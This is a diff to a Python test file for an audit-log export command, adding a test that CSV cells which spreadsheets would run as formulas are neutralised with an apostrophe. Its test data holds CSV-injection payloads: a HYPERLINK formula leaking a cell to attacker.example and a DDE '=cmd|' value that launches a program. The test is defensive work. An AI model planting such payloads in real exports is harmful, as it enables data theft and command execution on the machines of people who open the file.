@@ -16,7 +16,15 @@ from app.audit.models import AuditEntry
 from app.cli import main
 from app.settings import Settings
 from audit import all_entries, keyrack, organization_pk
-from support import GraphQL, Person, create_key_set, create_organization, create_system, sign_up
+from support import (
+    CREATE_KEY_SET,
+    GraphQL,
+    Person,
+    create_key_set,
+    create_organization,
+    create_system,
+    sign_up,
+)
 
 KEY_PATTERN = re.compile(r"kr[os]_[0-9A-Za-z]{49}")
 COLUMNS = [
@@ -124,6 +132,51 @@ async def test_the_export_holds_every_entry_oldest_first_as_graphql_shows_it(
     assert [r["prevHash"] for r in records] == ["0" * 64] + [r["hash"] for r in records[:-1]]
     assert {e["action"] for e in expected} >= {"KEY_REVEALED", "KEY_SET_REVOKED"}
     assert KEY_PATTERN.findall(result.stdout) == []
+
+
+FORMULAS = ['=HYPERLINK("http://attacker.example/?"&A1)', "+1+1", "-2+3", "@SUM(A1:A9)"]
+
+
+async def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(
+    gql: GraphQL, settings: Settings, tmp_path: Path
+) -> None:
+    # given: labels and a user agent that spreadsheets take for formulas
+    owner = await sign_up(gql, "owner")
+    organization_id = await create_organization(owner)
+    for label in FORMULAS:
+        await create_key_set(owner, organizationId=organization_id, label=label)
+    await owner.gql.raw(
+        CREATE_KEY_SET,
+        {"input": {"organizationId": organization_id, "label": "plain"}},
+        **{"user-agent": "\t=cmd|' /C calc'!A0"},
+    )
+
+    # when
+    exported = {
+        format: await keyrack(
+            settings,
+            tmp_path,
+            "audit",
+            "export",
+            "--organization",
+            organization_id,
+            "--format",
+            format,
+        )
+        for format in ("csv", "jsonl")
+    }
+
+    # then: CSV cells start with an apostrophe; JSON Lines keep the text as it was
+    rows = list(csv.reader(io.StringIO(exported["csv"].stdout, newline="")))
+    labels = [row[COLUMNS.index("targetLabel")] for row in rows[1:]]
+    agents = [row[COLUMNS.index("userAgent")] for row in rows[1:]]
+    assert [label for label in labels if label.lstrip("'") in FORMULAS] == [
+        "'" + formula for formula in FORMULAS
+    ]
+    assert "'\t=cmd|' /C calc'!A0" in agents
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t")) for row in rows for cell in row)
+    raw = [record["targetLabel"] for record in jsonl_records(exported["jsonl"].stdout)]
+    assert raw[-len(FORMULAS) - 1 : -1] == FORMULAS
 
 
 async def test_since_and_until_bound_the_export_in_any_time_zone(
